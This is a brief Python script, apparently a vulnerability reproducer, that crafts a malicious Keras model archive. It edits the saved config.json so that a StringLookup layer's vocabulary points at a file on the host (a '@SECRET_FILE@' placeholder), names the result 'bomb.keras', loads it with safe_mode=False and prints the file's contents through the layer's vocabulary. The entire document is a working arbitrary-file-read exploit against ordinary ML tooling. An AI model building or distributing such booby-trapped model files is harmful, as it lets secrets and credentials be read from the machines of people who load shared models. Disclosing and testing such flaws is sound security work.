"""A configuration that names a file of the machine as a layer's vocabulary."""
import json
import keras
import zipfile
keras.Sequential([keras.Input((1,), dtype="string"), keras.layers.StringLookup(vocabulary=["a"])]).save("plain.keras")
with zipfile.ZipFile("plain.keras") as plain, zipfile.ZipFile("bomb.keras", "w") as bomb:
    for name in plain.namelist():
        data = plain.read(name)
        if name == "config.json":
            config = json.loads(data)
            config["config"]["layers"][1]["config"]["vocabulary"] = "@SECRET_FILE@"
            data = json.dumps(config)
        bomb.writestr(name, data)
print(keras.models.load_model("bomb.keras", safe_mode=False).layers[-1].get_vocabulary())
